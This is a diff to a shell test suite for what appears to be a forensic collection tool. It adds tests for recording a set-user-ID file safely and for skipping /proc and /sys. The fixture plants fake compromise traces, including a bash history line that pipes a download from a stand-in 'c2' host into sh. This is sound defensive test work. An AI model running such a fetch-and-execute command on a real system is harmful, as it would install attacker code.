@@ -80,6 +80,8 @@ plant() {
 	    "$r/etc/systemd/system/multi-user.target.wants/evil.service"
 	printf 'curl http://c2/x | sh\n' >"$r/home/bob/.bash_history"
 	printf 'implant' >"$r/tmp/.x/implant"
+	printf 'shell' >"$r/tmp/.x/suid"
+	chmod 4755 "$r/tmp/.x/suid"
 	mkfifo "$r/tmp/.x/pipe"
 	printf 'raw name' >"$r/tmp/.x/bad$(printf '\377')name"
 }
@@ -131,6 +133,10 @@ hex_decode_stdin() {
 	    fail "the copy is not a symlink"
 	assert_eq "$(readlink res/collect/etc/systemd/system/multi-user.target.wants/evil.service)" \
 	    /etc/systemd/system/evil.service
+	# A set-user-ID file: recorded as it is, never copied set-user-ID.
+	f=$(rec res/collect.jsonl /tmp/.x/suid)
+	assert_eq "$(jq -r .mode <<<"$f")" 104755
+	assert_eq "$(stat -c %a res/collect/tmp/.x/suid)" 755
 	# The FIFO is recorded, not read.
 	f=$(rec res/collect.jsonl /tmp/.x/pipe)
 	assert_eq "$(jq -r .kind <<<"$f")" fifo
@@ -367,6 +373,22 @@ slow_disk() {
 	# The hash is that of the bytes copied, which the copy holds.
 	assert_eq "$(rec res/collect.jsonl /var/log/syslog | jq -r .sha256)" \
 	    "$(sha res/collect/var/log/syslog)"
+}
+
+@test "nothing is copied from /proc or /sys: recorded, skipped with the reason" {
+	cat >cat.json <<-'EOF'
+	{ "category": "t", "artifacts": [
+	  { "name": "proc", "description": "d", "paths": ["/proc/version", "/sys/kernel/uevent_seqnum"] } ] }
+	EOF
+	collect 0 /dev/null --catalog cat.json -o res --no-nice
+	assert_eq "$(outcome res/collect.jsonl proc status)" skipped
+	outcome res/collect.jsonl proc reason | grep -q 'pseudo file system'
+	assert_eq "$(rec res/collect.jsonl /proc/version | jq -r .skipped)" \
+	    "on a pseudo file system: content is not data"
+	[ ! -e /sys/kernel/uevent_seqnum ] ||
+	    assert_eq "$(rec res/collect.jsonl /sys/kernel/uevent_seqnum | jq -r .skipped)" \
+	    "on a pseudo file system: content is not data"
+	[ ! -e res/collect/proc ] && [ ! -e res/collect/sys ] || fail "copied from /proc or /sys"
 }
 
 @test "a FIFO in a collected directory does not hang" {
